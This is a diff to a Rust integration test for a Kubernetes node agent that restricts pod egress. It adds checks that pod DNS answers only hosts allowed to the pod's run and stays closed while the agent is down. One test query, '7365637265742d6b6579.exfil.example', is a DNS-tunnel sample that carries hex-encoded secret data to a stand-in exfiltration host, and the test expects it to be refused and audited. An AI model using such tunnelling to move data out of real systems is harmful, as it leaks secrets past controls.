@@ -2,15 +2,18 @@
 //! pods of both kubelet cgroup drivers, each its own run, served by one node agent with the
 //! real broker. Each pod reaches its own allowed host with its credential substituted; a
 //! host allowed to another pod's run is denied; another pod's placeholder is refused and its
-//! secret never sent; UDP goes only to the pod's resolver; pod deletion frees listeners,
+//! secret never sent; UDP goes only to the pod's resolver, whose answers the node agent gives
+//! (only names the pod's run could reach); pod deletion frees listeners,
 //! programs and map entries; a node agent killed with SIGKILL lets nothing out and serves again
 //! after a restart; a pod whose very first action is a connect is intercepted; 200 add/delete
 //! cycles leak nothing in the kernel or the agent.
 
 use std::time::Duration;
 
+use serde_json::json;
+
 use paddock_tests::{
-    node_lab::{HOST_A, HOST_B, NodeLab, SECRET_A, SECRET_B},
+    node_lab::{HOST_A, HOST_B, NodeLab, SECRET_A, SECRET_B, UPSTREAM_V4},
     process::client,
     require_root,
 };
@@ -85,6 +88,8 @@ async fn five_pods_each_reach_only_their_runs_hosts_with_their_own_credentials()
             assert_eq!(v["ok"], false, "UDP to {target} must fail: {v}");
             assert_eq!(v["errno"], libc::EPERM, "{target}: {v}");
         }
+
+        pod_dns_follows_its_run(&lab);
 
         // Every record names the pod's run; the stolen-placeholder request is pod 2's.
         let audit = lab.audit();
@@ -220,6 +225,14 @@ async fn a_killed_node_agent_lets_nothing_out_and_serves_again_after_restart() {
             lab.upstream("/while-down").is_empty(),
             "nothing left the node unintercepted"
         );
+        // DNS stays redirected to the pod's own (now closed) DNS port: no answer, never one
+        // from the nameserver itself.
+        let dns = |lab: &NodeLab| client(&["dns", "10.88.0.1:53", HOST_A, "A"], &lab.in_pod(0));
+        let down = dns(&lab);
+        assert_eq!(
+            down["ok"], false,
+            "no DNS answer while the agent is down: {down}"
+        );
         lab.start_agent();
         let listed = lab.listed();
         assert_eq!(listed.len(), 2, "restored pods: {listed:?}");
@@ -234,6 +247,12 @@ async fn a_killed_node_agent_lets_nothing_out_and_serves_again_after_restart() {
             lab.agent_log()
         );
         assert_eq!(lab.upstream("/after").len(), 1);
+        let back = dns(&lab);
+        assert_eq!(
+            back["rcode"], "NOERROR",
+            "the restored pod's DNS answers: {back}"
+        );
+        assert_eq!(back["answers"], json!([UPSTREAM_V4.to_string()]), "{back}");
     });
 }
 
@@ -313,4 +332,36 @@ async fn two_hundred_pod_add_delete_cycles_leak_nothing() {
             200
         );
     });
+}
+
+/// Pod 1's DNS (to its nameserver, redirected to its own DNS server) answers only names its
+/// run's policy could reach: run-1 may reach host B, not host A (run-0's), and a name carrying
+/// data (a DNS tunnel) is refused without being asked onwards, and audited under run-1.
+fn pod_dns_follows_its_run(lab: &NodeLab) {
+    let dns = |name: &str| client(&["dns", "10.88.0.1:53", name, "A"], &lab.in_pod(1));
+    let allowed = dns(HOST_B);
+    assert_eq!(allowed["rcode"], "NOERROR", "{allowed}");
+    assert_eq!(
+        allowed["answers"],
+        json!([UPSTREAM_V4.to_string()]),
+        "{allowed}"
+    );
+    assert_eq!(
+        allowed["from"], "10.88.0.1:53",
+        "the answer comes from the nameserver"
+    );
+    let tunnel = "7365637265742d6b6579.exfil.example";
+    for name in [HOST_A, tunnel] {
+        let v = dns(name);
+        assert_eq!(v["rcode"], "NXDOMAIN", "{name}: {v}");
+    }
+    let audit = lab.audit();
+    for name in [HOST_A, tunnel] {
+        assert!(
+            audit
+                .iter()
+                .any(|r| r["kind"] == "dns_deny" && r["sni"] == name && r["run"] == "run-1"),
+            "DNS refusal of {name} not audited for run-1"
+        );
+    }
 }
